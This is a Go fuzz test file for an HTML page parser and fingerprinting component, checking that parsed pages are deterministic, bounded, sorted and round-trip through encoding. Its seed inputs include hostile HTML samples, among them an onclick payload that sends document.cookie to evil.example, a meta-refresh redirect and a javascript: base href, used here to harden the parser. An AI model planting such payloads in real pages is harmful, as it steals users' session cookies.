package probe

import (
	"net/url"
	"slices"
	"testing"
)

var fuzzPage = func(body []byte, known func(uint32, uint32) (bool, bool)) page {
	at, _ := url.Parse("https://office.example/")
	return readPage(answer{status: 200, final: at, mime: "text/html", body: body}, 7, known)
}

// FuzzPage: whatever a server sends, a page is read the same way twice, within its
// bounds, and is what its own fingerprint expects.
func FuzzPage(f *testing.F) {
	for _, s := range []string{
		officePage, "", "<", "<script>var a='", "<a href='//[::1'>x", "<meta http-equiv=refresh content='0;url=//x.example'>",
		"<p onclick=\"fetch('//evil.example/'+document.cookie)\">", "<li><li></ul></li><iframe srcdoc='<script>'>",
		"<title>\xff\xfe٠١٢ پیر</title>", "<style>p{}</style><base href='javascript:x'><form action=' //a.example '>",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		nothing := func(uint32, uint32) (bool, bool) { return false, true }
		seen, again := fuzzPage(body, nothing), fuzzPage(body, nothing)
		if !slices.Equal(seen.features, again.features) {
			t.Error("the same page has other features")
		}
		if len(seen.features) > maxFeatures || len(seen.files) > maxFiles {
			t.Errorf("%d features, %d files", len(seen.features), len(seen.files))
		}
		if !slices.IsSortedFunc(seen.features, func(a, b feature) int { return int(int64(a.key) - int64(b.key)) }) {
			t.Error("features are not sorted")
		}
		size := 0
		for _, s := range seen.novel {
			size += len(s)
		}
		if size > 3*maxNovel {
			t.Errorf("%d bytes of new text", size)
		}
		var p imprint
		for range wantSamples {
			var d draft
			d.observe(&p, seen, false)
			p.accept(&d)
		}
		if why, _ := p.compare(seen); p.armed() && len(why) > 0 {
			t.Errorf("a page does not fit its own fingerprint: %q", why)
		}
		data, err := p.encode()
		if err != nil {
			t.Fatal(err)
		}
		if _, ok := decode(data); !ok {
			t.Error("a fingerprint does not read back")
		}
	})
}

// FuzzImprint: what cannot be read is no fingerprint, and what can is whole.
func FuzzImprint(f *testing.F) {
	p := imprint{Salt: 1, Samples: 3, Known: []uint32{1, 5, 9}, Core: []uint32{1, 5}, Changes: map[uint32]uint8{4: 2}}
	data, err := p.encode()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(data)
	f.Add([]byte("junk"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if p, ok := decode(data); ok {
			p.compare(page{features: []feature{{key: 5, slot: 4, kind: kindText}}})
		}
	})
}
